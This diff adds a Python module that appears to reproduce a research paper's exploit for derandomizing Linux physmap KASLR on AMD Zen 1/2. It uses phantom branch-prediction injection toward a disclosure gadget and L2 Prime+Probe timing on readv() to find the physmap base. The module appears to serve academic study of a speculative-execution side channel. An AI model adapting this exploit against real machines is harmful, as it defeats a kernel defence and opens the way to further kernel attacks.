@@ -1,0 +1,85 @@
+"""Exploit 2: derandomizing physmap KASLR with P2 (paper §7.2).
+
+physmap is mapped non-executable, so the P1 fetch probe stays silent.
+On Zen 1/2 the phantom window executes a single load: injecting a jmp*
+prediction at ``__fdget_pos``'s call (Listing 2) toward the disclosure
+gadget ``mov r12, [r12+0xbe0]`` (Listing 3) turns ``readv()`` into an
+oracle for "is this kernel address mapped?" — R12 carries the second
+syscall argument by the time the call site is reached.
+
+Detection uses Prime+Probe on L2 with a 2 MiB huge page: the probed
+physical line's L2 set is known because the attacker chooses the
+physical offset X inside the candidate physmap.
+
+Candidates are scanned in ascending order; the first signalling
+candidate is the base (higher candidates inside the direct map alias
+the same L2 set at shifted physical addresses).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+from ..kernel import Kaslr, SYS_READV
+from ..kernel.layout import reference_offsets
+from ..sidechannel import PrimeProbeL2
+from .primitives import P2MappedMemory, PhantomInjector
+
+#: Physical offset probed inside each candidate physmap (an arbitrary
+#: always-backed low physical address; its line fixes the L2 set).
+PROBE_PHYS_OFFSET = 0x4_C240
+
+
+@dataclass
+class PhysmapResult:
+    """Outcome of one physmap derandomization run."""
+
+    guessed_base: int | None
+    seconds: float
+    candidates_scanned: int
+
+    def correct(self, kaslr: Kaslr) -> bool:
+        return self.guessed_base == kaslr.physmap_base
+
+
+def break_physmap_kaslr(machine, image_base: int, *,
+                        verify_rounds: int = 3,
+                        min_hits: int = 2) -> PhysmapResult:
+    """Run the full §7.2 exploit.  Needs the kernel image base (from
+    exploit 1) for the call-site and gadget addresses."""
+    if not machine.uarch.phantom_reaches_execute:
+        raise ValueError(
+            f"{machine.uarch.name}: phantom window does not reach "
+            f"execute; P2 requires Zen 1/2")
+    offsets = reference_offsets()
+    call_site = image_base + offsets["fdget_call_site"]
+    gadget = image_base + offsets["physmap_gadget"]
+
+    injector = PhantomInjector(machine)
+    pp = PrimeProbeL2(machine)
+    p2 = P2MappedMemory(machine, injector=injector, pp=pp)
+    l2_set = PrimeProbeL2.set_of_phys(PROBE_PHYS_OFFSET)
+    start = machine.seconds()
+
+    def run_victim(rsi: int) -> None:
+        machine.syscall(SYS_READV, 3, rsi)
+
+    def probe(candidate: int) -> bool:
+        target = candidate + PROBE_PHYS_OFFSET
+        misses = 0
+        pp.prime(l2_set)
+        injector.inject(call_site, gadget)
+        run_victim(target - P2MappedMemory.GADGET_DISPLACEMENT)
+        return pp.probe_misses(l2_set) > 0
+
+    for scanned, candidate in enumerate(Kaslr.physmap_candidates(), 1):
+        if not probe(candidate):
+            continue
+        hits = sum(probe(candidate) for _ in range(verify_rounds))
+        if hits >= min_hits:
+            return PhysmapResult(guessed_base=candidate,
+                                 seconds=machine.seconds() - start,
+                                 candidates_scanned=scanned)
+    return PhysmapResult(guessed_base=None,
+                         seconds=machine.seconds() - start,
+                         candidates_scanned=len(Kaslr.physmap_candidates()))
